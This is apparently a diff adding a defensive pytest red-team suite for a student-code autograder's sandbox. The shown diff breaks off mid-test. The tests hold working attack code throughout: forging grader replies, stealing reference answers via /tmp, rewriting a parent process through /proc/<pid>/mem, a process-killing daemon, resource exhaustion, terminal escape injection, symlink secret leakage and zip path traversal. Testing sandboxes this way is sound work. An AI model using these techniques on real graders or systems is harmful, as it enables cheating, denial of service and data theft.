@@ -1,0 +1,900 @@
+"""Red-team attacks on the grader's three promises.
+
+1. Right code passes; wrong code fails with a diagnosis.
+2. Student code is untrusted: it never runs in the grader's process; the process that
+   runs it holds neither the reference of the task being graded nor the expected
+   values; what comes back is plain data.
+3. Nothing stops the run or loses a result; the JSON is always written.
+
+Each test builds a hostile submission the way tests/test_grader_hostile.py does (the
+reference with one task's body replaced, sometimes with code appended at module level)
+and asserts the SAFE outcome: no unearned point, the run finishes, the report is
+written. A test marked `xfail(strict=True, reason="HOLE: ...")` is an attack that works
+today: the xfail keeps the suite green and turns red the day the hole is closed, so the
+marker can be removed then.
+"""
+
+from __future__ import annotations
+
+import csv
+import io
+import json
+import re
+import textwrap
+import time
+import zipfile
+from pathlib import Path
+
+import pytest
+
+from grader import catalogue
+from grader.accuracy import apply
+from grader.engine import PASSED, GradeReport, Reference, grade_task
+from grader.report import render, results_json
+from grader.sandbox import Limits, Sandbox, bwrap_works
+from grader.submission import Submission, SubmissionError, load
+
+ROOT = Path(__file__).resolve().parent.parent
+SOLUTIONS = ROOT / "solutions" / "hero_transformer"
+
+needs_bwrap = pytest.mark.skipif(not bwrap_works(), reason="bubblewrap is not usable on this machine")
+
+
+def hole(reason: str):
+    return pytest.mark.xfail(strict=True, reason=f"HOLE: {reason}")
+
+
+# ------------------------------------------------------------------------ set-up
+
+
+@pytest.fixture(scope="module")
+def reference():
+    return Reference()
+
+
+@pytest.fixture(scope="module")
+def sandbox():
+    with Sandbox(Limits(check_seconds=3.0, memory_bytes=3 * 1024**3)) as box:
+        yield box
+
+
+def checks_of(task_name: str):
+    return [c for c in catalogue.chapter_of_task()[task_name].checks if c.task == task_name]
+
+
+def hostile_sources(reference, bodies: dict[str, str] | None = None, append: str = "",
+                    module: str = "model") -> dict[str, str]:
+    """The reference with the bodies of some tasks replaced and code appended to a module."""
+    sources = dict(reference.sources)
+    for task_name, body in (bodies or {}).items():
+        task = catalogue.tasks()[task_name]
+        sources = apply(sources, task.module, task.name, textwrap.dedent(body))
+    if append:
+        sources[f"{module}.py"] = sources[f"{module}.py"] + "\n\n" + textwrap.dedent(append) + "\n"
+    return sources
+
+
+def grade_one(reference, sandbox, task_name, sources, label="hostile", only=None):
+    task = catalogue.tasks()[task_name]
+    checks = checks_of(task_name)
+    if only is not None:
+        checks = [c for c in checks if c.name.rsplit(".", 1)[-1] in only]
+    return grade_task(task, checks, Submission(label, sources), reference, sandbox, seed=7)
+
+
+def run(reference, sandbox, task_name, body, append="", only=None):
+    return grade_one(reference, sandbox, task_name, hostile_sources(reference, {task_name: body}, append), only=only)
+
+
+def earned(results):
+    return [r.check.name for r in results if r.status == PASSED]
+
+
+def assert_no_points(results):
+    assert results, "no checks ran"
+    assert not earned(results), f"a hostile submission earned points on {earned(results)}"
+
+
+# Module-level code a submission can carry: it finds the worker's end of the channel
+# (the only SOCK_STREAM socket in the worker) and writes raw frames on it.
+CHANNEL = '''
+def _rt_channels():
+    import os, socket, stat
+    found = []
+    for fd in range(3, 512):
+        try:
+            if not stat.S_ISSOCK(os.fstat(fd).st_mode):
+                continue
+            sock = socket.socket(fileno=os.dup(fd))
+        except OSError:
+            continue
+        if sock.type == socket.SOCK_STREAM:
+            found.append(sock)
+        else:
+            sock.close()
+    return found
+
+
+def _rt_send_raw(*bodies):
+    import struct
+    for sock in _rt_channels():
+        for body in bodies:
+            sock.sendall(struct.pack(">Q", len(body)) + body)
+        sock.close()
+'''
+
+RIGHT_GELU = "return 0.5 * x * (1.0 + torch.erf(x / math.sqrt(2.0)))"
+
+
+# =============================================================== (a) forged answers
+# The probe runs in the same process as the student's code, so that code can replace
+# it (or anything it calls) and answer whatever the judge wants. Every check whose
+# judge only relates values the worker itself produced, or compares them with a
+# published figure, can be passed without implementing anything.
+
+FORGED_BLOCK_PROBES = '''
+import math as _m
+import sys as _sys
+
+_blk = _sys.modules["grader.checks.ch05_block"]
+
+
+def _g(v):
+    return 0.5 * v * (1.0 + _m.erf(v / _m.sqrt(2.0)))
+
+
+def _forged_forward(ns, x, sizes, state=None):
+    B, T, d = x.shape
+    h = sizes["n_heads"]
+    kv = torch.zeros(B, h, T, d // h, dtype=torch.float64)
+    if tuple(x.shape) == (1, 1, 2):  # Example 1: x + 0.5 * gelu(LN(x)), all published
+        a = 1 / _m.sqrt(1.00001)
+        y = x + torch.tensor([[[0.5 * _g(-a), 0.5 * _g(a)]]], dtype=torch.float64)
+    else:  # zero-branch identity: give the input back
+        y = x.clone()
+    return {"y": y, "present": None, "cached_present": [kv, kv]}
+
+
+_blk.probe_block_forward = _forged_forward
+_blk.probe_block_causal = lambda ns, x, changed, sizes, state: {"y": x, "y_changed": x}
+_blk.probe_block_cache = lambda ns, x, sizes, state, split: {"full": x, "stepwise": x}
+'''
+
+
+@hole("probes run inside the untrusted worker: student code patches grader.checks.ch05_block at import "
+      "and an unimplemented block earns shape, zero_branch_identity, causal_invariance, example_1 and "
+      "the hidden cache_consistent")
+def test_patched_probe_module_earns_nothing(reference, sandbox):
+    body = 'raise NotImplementedError("block")'
+    results = run(reference, sandbox, "block", body, append=FORGED_BLOCK_PROBES)
+    assert_no_points(results)
+
+
+FORGED_WIRE = '''
+import sys as _sys
+
+def _forging_send(sock, value):
+    from grader.inside import wire as _wire
+
+    call = _sys._getframe(1).f_locals.get("call") or {}
+    inputs, probe = call.get("inputs", {}), call.get("probe")
+    if isinstance(value, dict) and probe == "probe_layer_norm_shift":
+        zero = torch.zeros_like(inputs["x"])
+        value = {"result": {"y": zero, "shifted": zero}, "forbidden_calls": []}
+    elif isinstance(value, dict) and probe == "probe_layer_norm" and inputs.get("gamma") is not None:
+        value = {"result": {"y": inputs["beta"].expand_as(inputs["x"]).clone(), "eps": 1e-5,
+                            "gamma": inputs["gamma"], "beta": inputs["beta"]}, "forbidden_calls": []}
+    elif isinstance(value, dict) and probe == "probe_layer_norm":
+        d = inputs["x"].shape[-1]
+        a = 1 / (1.00001 ** 0.5)
+        y = torch.tensor([[-a, a]], dtype=torch.float64) if d == 2 else torch.zeros_like(inputs["x"])
+        value = {"result": {"y": y, "eps": 1e-5, "gamma": torch.ones(d, dtype=torch.float64),
+                            "beta": torch.zeros(d, dtype=torch.float64)}, "forbidden_calls": []}
+    return _wire._rt_original_send(sock, value)
+
+
+from grader.inside import wire as _wire_module
+if not hasattr(_wire_module, "_rt_original_send"):
+    _wire_module._rt_original_send = _wire_module.send
+_wire_module.send = _forging_send
+'''
+
+
+@hole("the reply is built inside the untrusted worker: patching grader.inside.wire.send rewrites every "
+      "answer, so freezing the probe table would not be enough; an unimplemented LayerNorm earns all "
+      "four public layer_norm checks")
+def test_forging_the_reply_in_wire_send_earns_nothing(reference, sandbox):
+    results = run(reference, sandbox, "layer_norm", 'raise NotImplementedError("layer_norm")', append=FORGED_WIRE)
+    assert_no_points(results)
+
+
+@hole("relational checks run both sides in one process: a forward that leaks the future but remembers "
+      "its previous call passes causal_invariance with no grader internals touched")
+def test_stateful_forward_cannot_fake_causality(reference, sandbox):
+    body = """
+        attended, present = self.attention(self.ln_attention(hidden), past_key_value, use_cache)
+        y = hidden + attended + hidden.mean(dim=1, keepdim=True)  # every position sees the future
+        memo = getattr(TransformerBlock, "_rt_memo", None)
+        if memo is not None and memo[0].shape == hidden.shape and torch.equal(memo[0][:, :4], hidden[:, :4]):
+            y = torch.cat([memo[1][:, :4], y[:, 4:]], dim=1)
+        TransformerBlock._rt_memo = (hidden.clone(), y.clone())
+        return y, present
+    """
+    results = run(reference, sandbox, "block", body, only={"causal_invariance"})
+    assert_no_points(results)
+
+
+FORGED_BLOCK_PARTS = '''
+import sys as _sys
+
+_blk = _sys.modules["grader.checks.ch05_block"]
+_blk.probe_block_parts = lambda ns, sizes: {
+    "missing": [], "norms_shared": False,
+    "types": {"ln_attention": "LayerNorm", "attention": "CausalSelfAttention",
+              "ln_feedforward": "LayerNorm", "feedforward": "FeedForward"},
+    "parameters": 4 * sizes["d_model"] ** 2 + 2 * sizes["d_model"] * sizes["d_ff"] + sizes["d_ff"] + 5 * sizes["d_model"]}
+'''
+
+
+@hole("block_init's checks (the hidden parameter_ledger_wide included) have no reference expectation: "
+      "a forged probe answers the ledger formula for an empty __init__")
+def test_forged_ledger_earns_nothing(reference, sandbox):
+    body = 'raise NotImplementedError("block_init")'
+    results = run(reference, sandbox, "block_init", body, append=FORGED_BLOCK_PARTS)
+    assert_no_points(results)
+
+
+def test_hidden_reference_comparison_cannot_be_forged(reference, sandbox):
+    # The counterpart that holds: where the judge compares with the reference's output,
+    # computed in the grader from inputs the worker never sees the answer of, a forged
+    # probe has nothing to copy.
+    results = run(reference, sandbox, "block", 'raise NotImplementedError("block")', append=FORGED_BLOCK_PROBES,
+                  only={"matches_reference"})
+    assert_no_points(results)
+
+
+# ============================================================ (a') the channel itself
+# Student code can write frames on the worker's socket. Whatever it writes must fail
+# the affected checks, never raise out of the engine (a crash there loses the whole
+# submission's report, and in grade-class the whole class's gradebook).
+
+REPLY_FRAMES = {
+    "list": b"[]",
+    "number": b"0",
+    "string": b'"passed"',
+    "null": b"null",
+    "forbidden_calls_not_a_list": b'{"result": null, "forbidden_calls": 5}',
+    "error_not_a_dict": b'{"error": 5}',
+    "error_message_not_text": b'{"error": {"type": "X", "message": 5, "not_implemented": true}}',
+    "deeply_nested": b"[" * 100_000 + b"]" * 100_000,
+}
+
+
+@pytest.mark.parametrize("frame", [
+    pytest.param(name, marks=hole(f"a reply frame that is valid JSON but not the expected dict ({name}) raises "
+                                  f"out of engine._judge/_remote_failure/wire.decode and stops the run"))
+    for name in REPLY_FRAMES])
+def test_malformed_reply_frames_fail_only_that_check(reference, sandbox, frame):
+    body = f"_rt_send_raw({REPLY_FRAMES[frame]!r})\n{RIGHT_GELU}"
+    results = run(reference, sandbox, "gelu", body, append=CHANNEL)
+    assert len(results) == len(checks_of("gelu"))
+    assert results[0].status != PASSED
+
+
+READY_FRAMES = {
+    "number": b"0",
+    "list": b"[]",
+    "certified_not_a_list": b'{"ready": true, "certified": 5}',
+}
+
+
+@pytest.mark.parametrize("frame", [
+    pytest.param(name, marks=hole(f"a forged 'ready' frame ({name}) written at import raises out of "
+                                  f"engine._start_worker ('setup_error' in ready / tuple(ready.get(...)))"))
+    for name in READY_FRAMES])
+def test_malformed_ready_frame_fails_only_that_task(reference, sandbox, frame):
+    append = CHANNEL + f"\n_rt_send_raw({READY_FRAMES[frame]!r})\n"
+    results = grade_one(reference, sandbox, "gelu", hostile_sources(reference, append=append))
+    assert len(results) == len(checks_of("gelu"))
+    assert_no_points(results)
+
+
+@hole("the 'certified' list of the ready frame is worker data: a forged one holding a dict makes "
+      "report.results_json (called in run_grading's finally) raise TypeError: `python -m grader grade "
+      "--json` ends with a traceback and writes no results.json")
+def test_forged_certified_list_cannot_stop_the_json(reference, tmp_path, monkeypatch):
+    import grader.sandbox
+    from grader.__main__ import run_grading
+
+    monkeypatch.setattr(grader.sandbox, "Limits", lambda: Limits(check_seconds=3.0))
+    append = CHANNEL + '\n_rt_send_raw(b\'{"ready": true, "certified": [{"x": 1}]}\')\n'
+    package = tmp_path / "upload" / "hero_transformer"
+    package.mkdir(parents=True)
+    for name, text in hostile_sources(reference, append=append).items():
+        (package / name).write_text(text)
+    out = tmp_path / "results.json"
+    try:
+        run_grading(str(package.parent), ["05"], False, str(out), _console())
+    finally:
+        assert out.exists(), "no results.json was written"
+    data = json.loads(out.read_text())
+    assert data["score"] < data["extra_data"]["max_score"]
+
+
+@hole("cosmetic: the 'certified parts' names come from the worker's ready frame and are echoed into "
+      "results.json (extra_data) and the terminal report without being checked against the task list")
+def test_forged_certified_names_are_not_echoed(reference, sandbox):
+    append = CHANNEL + '\n_rt_send_raw(b\'{"ready": true, "certified": ["ALL CHECKS PASSED"]}\')\n'
+    results = grade_one(reference, sandbox, "gelu", hostile_sources(reference, append=append))
+    assert_no_points(results)
+    data = results_json(GradeReport("hostile", results, sandbox.describe(), "reference"))
+    assert "ALL CHECKS PASSED" not in json.dumps(data)
+
+
+def _console():
+    from rich.console import Console
+
+    return Console(file=io.StringIO(), force_terminal=True, width=120)
+
+
+# ============================================================== (b) stealing answers
+
+
+@hole("all workers of a zygote share one writable /tmp: the layer_norm worker (whose certified parts "
+      "include gelu's reference) stashes them there and the later gelu worker executes the stolen gelu")
+def test_certified_parts_do_not_travel_between_tasks_through_tmp(reference, sandbox):
+    stash = f"/tmp/.rt-stash-{time.time_ns()}.py"
+    layer_norm = f"""
+        import sys
+        for finder in sys.meta_path:
+            if getattr(finder, "name", "") == "_certified_hero_transformer":
+                with open({stash!r}, "w") as handle:
+                    handle.write(finder.sources["model.py"])
+        raise RuntimeError("stashed")
+    """
+    gelu = f"""
+        import ast
+        try:
+            tree = ast.parse(open({stash!r}).read())
+        except OSError:
+            raise RuntimeError("nothing stashed")
+        stolen = next(n for n in tree.body if isinstance(n, ast.FunctionDef) and n.name == "gelu")
+        space = dict(globals())
+        exec(compile(ast.Module([stolen], []), "stolen", "exec"), space)
+        return space["gelu"](x)
+    """
+    sources = hostile_sources(reference, {"layer_norm": layer_norm, "gelu": gelu})
+    grade_one(reference, sandbox, "layer_norm", sources)
+    results = grade_one(reference, sandbox, "gelu", sources)
+    assert_no_points(results)
+
+
+@pytest.mark.parametrize("task_name, body", [
+    pytest.param("gelu", "from .backward import _gelu_forward\nreturn _gelu_forward(x)", id="gelu"),
+    pytest.param("layer_norm", "from .backward import _layer_norm_forward\n"
+                               "return _layer_norm_forward(x, self.weight, self.bias, self.eps)", id="layer_norm"),
+])
+@hole("backward.py's torch plumbing (_gelu_forward, _layer_norm_forward) sits outside every solution region: "
+      "the student copy hands out chapter 05's gelu and LayerNorm answers, and every worker holds them")
+def test_the_student_copy_does_not_ship_graded_answers(reference, sandbox, task_name, body):
+    sources = hostile_sources(reference, {task_name: body})
+    sources["backward.py"] = (ROOT / "hero_transformer" / "backward.py").read_text()  # as released to students
+    results = grade_one(reference, sandbox, task_name, sources)
+    assert_no_points(results)
+
+
+def test_grader_only_inputs_never_reach_the_worker(reference, sandbox):
+    # Walk up to the worker loop and read the call it received: the causal check's
+    # "_first_changed" (judging data) stays in the grader.
+    body = """
+        import sys
+        frame = sys._getframe()
+        while frame is not None and "call" not in frame.f_locals:
+            frame = frame.f_back
+        sent = frame.f_locals["call"]["inputs"] if frame is not None else {}
+        raise RuntimeError("inputs: " + ",".join(sorted(sent)))
+    """
+    results = run(reference, sandbox, "block", body, only={"causal_invariance"})
+    assert_no_points(results)
+    assert "inputs: changed,sizes,state,x (" in results[0].diagnosis, results[0].diagnosis
+
+
+@hole("a worker can open /proc/<zygote>/mem read-write (same uid, zygote dumpable): it rewrites the "
+      "zygote's _set_tripwires into a no-op, and every later worker (other tasks, other students in "
+      "grade-class) runs without tripwires: getattr(F, 'ge'+'lu') then earns full gelu points")
+def test_a_worker_cannot_rewrite_the_zygote(reference):
+    rewrite = """
+        import ctypes, os, struct, sys
+        zygote = sys.modules["__main__"]
+        target, noop = zygote._set_tripwires, zygote._SourcePackage.create_module
+        raw = ctypes.string_at(id(target), type(target).__basicsize__)
+        offset = next(i for i in range(0, len(raw), 8) if struct.unpack_from("<Q", raw, i)[0] == id(target.__code__))
+        try:
+            with open(f"/proc/{os.getppid()}/mem", "r+b", buffering=0) as mem:
+                mem.seek(id(target) + offset)
+                mem.write(struct.pack("<Q", id(noop.__code__)))
+        except OSError as error:
+            raise RuntimeError(f"refused: {error}")
+        raise RuntimeError("rewritten")
+    """
+    shortcut = 'return getattr(torch.nn.functional, "ge" + "lu")(x)'
+    with Sandbox(Limits(check_seconds=3.0)) as box:
+        grade_one(reference, box, "gelu", hostile_sources(reference, {"gelu": rewrite}), only={"exact_values"})
+        later = grade_one(reference, box, "gelu", hostile_sources(reference, {"gelu": shortcut}), label="next student")
+    assert {r.status for r in later} == {"forbidden"}, [(r.check.name, r.status) for r in later]
+
+
+# ============================================================== (c) escaping limits
+
+
+@needs_bwrap
+@hole("a worker's double-forked, setsid'd child is never killed (only the worker pid is): it outlives the "
+      "task and, since grade-class keeps one zygote for the whole class, kills every later worker, so the "
+      "next student's correct code scores nothing")
+def test_a_daemon_cannot_outlive_its_worker_and_sink_the_next_student(reference):
+    daemon = """
+        import os, signal, time
+        keep = {1, os.getpid(), os.getppid()}
+        if os.fork() == 0:
+            os.setsid()
+            if os.fork() == 0:
+                keep.add(os.getpid())
+                end = time.monotonic() + 20
+                while time.monotonic() < end:
+                    for name in os.listdir("/proc"):
+                        if name.isdigit() and int(name) not in keep:
+                            try:
+                                os.kill(int(name), signal.SIGKILL)
+                            except OSError:
+                                pass
+                    time.sleep(0.005)
+            os._exit(0)
+        raise RuntimeError("daemon started")
+    """
+    with Sandbox(Limits(check_seconds=3.0)) as box:
+        grade_one(reference, box, "gelu", hostile_sources(reference, {"gelu": daemon}), only={"exact_values"})
+        time.sleep(0.3)
+        honest = grade_one(reference, box, "gelu", dict(reference.sources), label="next student")
+    assert all(r.status == PASSED for r in honest), [(r.check.name, r.status, r.diagnosis) for r in honest]
+
+
+@hole("workers run as the same uid as the zygote, so one can prlimit() it: with RLIMIT_NOFILE lowered the "
+      "zygote can no longer receive a worker's fds, every later worker dies at once, and the zygote, still "
+      "alive, is never restarted: the next student's correct code scores nothing")
+def test_a_worker_cannot_cripple_the_zygote_for_the_next_student(reference):
+    cripple = """
+        import os, resource
+        resource.prlimit(os.getppid(), resource.RLIMIT_NOFILE, (3, 3))
+        raise RuntimeError("zygote crippled")
+    """
+    with Sandbox(Limits(check_seconds=3.0)) as box:
+        grade_one(reference, box, "gelu", hostile_sources(reference, {"gelu": cripple}), only={"exact_values"})
+        honest = grade_one(reference, box, "gelu", dict(reference.sources), label="next student")
+    assert all(r.status == PASSED for r in honest), [(r.check.name, r.status, r.diagnosis) for r in honest]
+
+
+@hole("the sandbox's /tmp is a tmpfs (RAM) with no size: RLIMIT_FSIZE bounds one file at 16 MiB but not "
+      "their number, and the files outlive the worker for the zygote's whole life (a whole class in "
+      "grade-class), so a worker can pin memory up to half the machine's RAM")
+def test_tmp_cannot_be_used_to_pin_memory(reference):
+    body = """
+        import os
+        written = 0
+        block = b"x" * (1 << 20)
+        for i in range(12):
+            try:
+                with open(f"/tmp/.rt-fill-{os.getpid()}-{i}", "wb") as handle:
+                    for _ in range(16):
+                        handle.write(block)
+                written += 16
+            except OSError:
+                break
+        raise RuntimeError(f"wrote {written} MiB")
+    """
+    with Sandbox(Limits(check_seconds=3.0)) as box:
+        results = run(reference, box, "gelu", body, only={"exact_values"})
+    assert_no_points(results)
+    written = int(re.search(r"wrote (\d+) MiB", results[0].diagnosis)[1])
+    assert written <= 64, f"one worker left {written} MiB in the sandbox's /tmp"
+
+
+@hole("there is no limit on the number of processes a worker may start (no RLIMIT_NPROC, no pids cgroup): "
+      "a fork bomb is only bounded by the machine")
+def test_process_count_is_limited(reference, sandbox):
+    body = """
+        import os, time
+        started = 0
+        for _ in range(64):
+            try:
+                pid = os.fork()
+            except OSError:
+                break
+            if pid == 0:
+                time.sleep(1.0)
+                os._exit(0)
+            started += 1
+        raise RuntimeError(f"started {started} processes")
+    """
+    results = run(reference, sandbox, "gelu", body, only={"exact_values"})
+    assert_no_points(results)
+    started = int(re.search(r"started (\d+) processes", results[0].diagnosis)[1])
+    assert started < 64, f"one worker started {started} processes"
+
+
+def test_limits_cannot_be_raised_and_signals_cannot_be_dodged(reference, sandbox):
+    body = """
+        import resource, signal
+        raised = []
+        for name in ("RLIMIT_AS", "RLIMIT_CPU", "RLIMIT_FSIZE", "RLIMIT_NOFILE"):
+            limit = getattr(resource, name)
+            try:
+                resource.setrlimit(limit, (resource.RLIM_INFINITY, resource.RLIM_INFINITY))
+                raised.append(name)
+            except (ValueError, OSError):
+                pass
+        for sig in (signal.SIGXCPU, signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):
+            signal.signal(sig, signal.SIG_IGN)
+        if raised:
+            return 0.5 * x * (1.0 + torch.erf(x / math.sqrt(2.0)))
+        while True:
+            pass
+    """
+    results = run(reference, sandbox, "gelu", body, only={"exact_values"})
+    assert_no_points(results)
+    assert results[0].status == "timeout"
+
+
+def test_a_thread_left_running_after_the_reply_cannot_answer_later_checks(reference, sandbox):
+    # A thread that keeps writing "correct" frames after each reply only desynchronises
+    # its own worker; the checks it lands on must not pass by it.
+    body = """
+        import threading, time
+        def spam():
+            for _ in range(200):
+                try:
+                    _rt_send_raw(b'{"result": {"y": null}, "forbidden_calls": []}')
+                except OSError:
+                    return
+                time.sleep(0.002)
+        threading.Thread(target=spam, daemon=True).start()
+        raise NotImplementedError("gelu")
+    """
+    results = run(reference, sandbox, "gelu", body, append=CHANNEL)
+    assert_no_points(results)
+
+
+@hole("a module that hangs at import costs a full setup timeout for every check of the task (the timeout "
+      "cap only shortens probe calls), so one such upload takes ~checks x 30 s per task in grade-class")
+def test_an_import_that_hangs_costs_one_setup_timeout_per_task(reference):
+    sources = hostile_sources(reference, append="import time as _t\n_t.sleep(10**6)\n")
+    with Sandbox(Limits(check_seconds=3.0, setup_seconds=1.0)) as box:
+        box.worker().close()  # the zygote is up: time only the grading
+        started = time.monotonic()
+        results = grade_one(reference, box, "block", sources,
+                            only={"shape", "zero_branch_identity", "causal_invariance", "example_1"})
+        elapsed = time.monotonic() - started
+    assert_no_points(results)
+    assert all(r.status in ("timeout", "error") for r in results)
+    assert elapsed < 2.0, f"{len(results)} checks took {elapsed:.1f} s with a 1 s setup limit"
+
+
+# =========================================================== (d) output and its display
+
+
+@pytest.mark.parametrize("case", [
+    pytest.param("block_nan", marks=hole("causal_diagnosis tests `before.max() > 1e-10`, which is False for NaN: "
+                                         "a block returning NaN everywhere passes ch05.block.causal_invariance "
+                                         "(the same helper judges ch04 attention and ch07 model causality)")),
+    pytest.param("layer_norm_eps_nan", marks=hole("judge_layer_norm_defaults tests `abs(eps - 1e-5) > 1e-12`, "
+                                                  "False for NaN: eps = nan passes 'eps is 1e-5'")),
+])
+def test_nan_is_never_a_pass(reference, sandbox, case):
+    if case == "block_nan":
+        body = """
+            attended, present = self.attention(self.ln_attention(hidden), past_key_value, use_cache)
+            return hidden * float("nan"), present
+        """
+        results = run(reference, sandbox, "block", body, only={"causal_invariance"})
+    else:
+        sources = hostile_sources(reference)
+        sources["model.py"] = sources["model.py"].replace("self.eps = eps", 'self.eps = float("nan")', 1)
+        results = grade_one(reference, sandbox, "layer_norm", sources, only={"defaults"})
+    assert_no_points(results)
+
+
+def test_exotic_return_values_come_back_as_plain_data(reference, sandbox):
+    body = """
+        class Sneaky(torch.Tensor):
+            def __eq__(self, other):
+                return True
+        class Liar(float):
+            def __float__(self):
+                return 0.0
+            def __eq__(self, other):
+                return True
+        class Box(dict):
+            def __getitem__(self, key):
+                return 0.5 * x * (1.0 + torch.erf(x / math.sqrt(2.0)))
+        import sys
+        kind = sys.modules[__name__].__dict__.setdefault("_rt_count", [0])
+        kind[0] += 1
+        if kind[0] == 1:
+            return (x * 0).as_subclass(Sneaky)
+        if kind[0] == 2:
+            return Liar(1.0)
+        return Box()
+    """
+    results = run(reference, sandbox, "gelu", body)
+    assert_no_points(results)
+
+
+def test_a_huge_answer_fails_without_hurting_the_grader(reference, sandbox):
+    body = """
+        return torch.zeros(7 * 1024 * 1024, dtype=torch.float64)  # 56 MB, 75 MB of base64: over the frame limit
+    """
+    results = run(reference, sandbox, "gelu", body, only={"exact_values"})
+    assert_no_points(results)
+    assert results[0].status == "error"
+
+
+@hole("wire.recv decodes any frame up to 64 MiB with json.loads: 12 MB of '[],' becomes 4 million list "
+      "objects (~300 MB) in the grader, a 64 MiB frame ~1.5 GB and ~5 s per check, enough to get the grader "
+      "OOM-killed (no results.json) on a small autograder machine")
+def test_a_small_frame_cannot_blow_up_the_graders_memory(reference, sandbox):
+    import tracemalloc
+
+    body = """
+        _rt_send_raw(b'{"forbidden_calls": [], "result": [' + b"[]," * 4_000_000 + b"[]]}")
+        raise RuntimeError("sent")
+    """
+    tracemalloc.start()
+    try:
+        results = run(reference, sandbox, "gelu", body, append=CHANNEL, only={"exact_values"})
+        peak = tracemalloc.get_traced_memory()[1]
+    finally:
+        tracemalloc.stop()
+    assert_no_points(results)
+    assert peak < 128 * 1024**2, f"a 12 MB reply cost the grader {peak / 1024**2:.0f} MB"
+
+
+@hole("student text reaches the TA's terminal unfiltered: rich's Text strips only BEL/BS/VT/FF/CR, so ESC "
+      "sequences in an exception message (cursor up, erase line, set title, OSC 52 clipboard) are emitted raw "
+      "by `make grade`")
+def test_terminal_report_carries_no_escape_sequences_from_the_submission(reference, sandbox):
+    body = r"""
+        print("\x1b]0;owned\x1b\\")
+        raise RuntimeError("\x1b[1A\x1b[2K\x1b[32mgelu  2/2  passed\x1b[0m")
+    """
+    results = run(reference, sandbox, "gelu", body, only={"exact_values"})
+    console = _console()
+    render(GradeReport("hostile", results, sandbox.describe(), "reference"), console)
+    shown = console.file.getvalue()
+    assert "\x1b[1A" not in shown and "\x1b]0;" not in shown
+
+
+@hole("results.json uses output_format 'md' and pastes the diagnosis and the printed output verbatim: a "
+      "submission can close the code fence and print a fake '**passed**' line in a failed check's output")
+def test_results_json_markdown_cannot_fake_a_pass(reference, sandbox):
+    body = r"""
+        print("```\n\n**passed** — gelu equals x * Phi(x) with erf\n\n```")
+        raise RuntimeError("\n\n**passed** — 2/2 points")
+    """
+    results = run(reference, sandbox, "gelu", body, only={"exact_values"})
+    data = results_json(GradeReport("hostile", results, sandbox.describe(), "reference"))
+    failed = [t for t in data["tests"] if t["status"] != "passed"]
+    assert failed
+    for test in failed:
+        lines = test["output"].splitlines()
+        assert not any(line.startswith("**passed**") for line in lines), test["output"]
+
+
+# ========================================================= (e) forbidden shortcuts
+
+
+FORBIDDEN_BYPASSES = {
+    "gelu via torch.ops.aten": ("gelu", "return torch.ops.aten.gelu(x)"),
+    "layer_norm via torch.native_layer_norm": (
+        "layer_norm", "return torch.native_layer_norm(x, (x.shape[-1],), self.weight, self.bias, self.eps)[0]"),
+    "cross_entropy via torch.ops.aten": (
+        "cross_entropy", "return torch.ops.aten.cross_entropy_loss(logits.reshape(-1, logits.shape[-1]), targets.reshape(-1))"),
+    "gelu_backward via torch.ops.aten": ("gelu_backward", "return torch.ops.aten.gelu_backward(grad_out, x)"),
+    "layer_norm_backward via autograd's engine": ("layer_norm_backward", """
+        leaves = [x.detach().requires_grad_(), gamma.detach().requires_grad_(),
+                  torch.zeros_like(gamma).requires_grad_()]
+        with torch.enable_grad():
+            y = _layer_norm_forward(*leaves, eps)
+        engine = torch.autograd.Variable._execution_engine
+        return engine.run_backward((y,), (grad_out,), False, False, tuple(leaves), True, False)
+    """),
+}
+
+
+@pytest.mark.parametrize("case", [
+    pytest.param(name, marks=hole(f"{name}: an alias of the forbidden function that neither the static scan "
+                                  f"nor the tripwires know"))
+    for name in FORBIDDEN_BYPASSES])
+def test_aliases_of_forbidden_functions_score_forbidden(reference, sandbox, case):
+    task_name, body = FORBIDDEN_BYPASSES[case]
+    results = run(reference, sandbox, task_name, body)
+    assert_no_points(results)
+
+
+# ==================================================================== (f) uploads
+
+
+@hole("submission._from_folder follows symlinks: an upload whose model.py links to solutions/ is graded "
+      "as the reference, and any file the grader can read (here a secret outside the upload) is sent to "
+      "the worker, whence the student's code prints it into results.json")
+def test_symlinks_in_an_uploaded_folder_are_not_followed(tmp_path):
+    secret = tmp_path / "secret.txt"
+    secret.write_text("TOPSECRET-TA-TOKEN\n")
+    package = tmp_path / "upload" / "hero_transformer"
+    package.mkdir(parents=True)
+    for source in SOLUTIONS.glob("*.py"):
+        (package / source.name).symlink_to(source)
+    (package / "notes.py").symlink_to(secret)
+    try:
+        submission = load(tmp_path / "upload")
+    except SubmissionError:
+        return
+    texts = "\n".join(submission.sources.values())
+    assert "BEGIN SOLUTION" not in texts and "TOPSECRET" not in texts
+
+
+def test_zip_paths_cannot_escape_or_break_loading(tmp_path):
+    upload = tmp_path / "weird.zip"
+    model = (SOLUTIONS / "model.py").read_bytes()
+    with zipfile.ZipFile(upload, "w") as archive:
+        archive.writestr("hero_transformer/model.py", model)
+        archive.writestr("hero_transformer/__init__.py", b"")
+        archive.writestr("../../escape/hero_transformer/model.py", b"print('escaped')")
+        archive.writestr("/abs/hero_transformer/abs.py", b"print('absolute')")
+        archive.writestr("hero_transformer/../../../../etc/evil.py", b"print('evil')")
+        archive.writestr("hero_transformer/" + "a" * 200 + ".py", b"x = 1\n")
+        archive.writestr("hero_transformer/latin1.py", "s = 'caf\xe9'\n".encode("latin-1"))
+        archive.writestr("hero_transformer/sub/../../../up.py", b"up = 1\n")
+    submission = load(upload)
+    assert "model.py" in submission.sources
+    for name in submission.sources:
+        assert not name.startswith("/") and ".." not in Path(name).parts, name
+    assert not (tmp_path.parent / "escape").exists()
+
+
+@hole("a corrupt member (bad CRC, or encrypted, or an unknown compression) raises BadZipFile/RuntimeError/"
+      "NotImplementedError from archive.read in submission._from_zip, not SubmissionError: grade-class stops "
+      "and writes no gradebook for anyone")
+def test_a_corrupt_zip_does_not_stop_grade_class(tmp_path, monkeypatch):
+    import grader.gradebook as gradebook
+
+    monkeypatch.setattr(gradebook, "Limits", lambda: Limits(check_seconds=3.0))
+    uploads = tmp_path / "uploads"
+    uploads.mkdir()
+    broken = uploads / "alice.zip"
+    with zipfile.ZipFile(broken, "w", zipfile.ZIP_STORED) as archive:
+        archive.writestr("hero_transformer/__init__.py", b"MARKER_TO_CORRUPT = 1\n")
+    data = broken.read_bytes()
+    broken.write_bytes(data.replace(b"MARKER_TO_CORRUPT = 1", b"MARKER_TO_CORRUPT = 2"))
+    (uploads / "bob").mkdir()  # an upload with no package: a row with a note
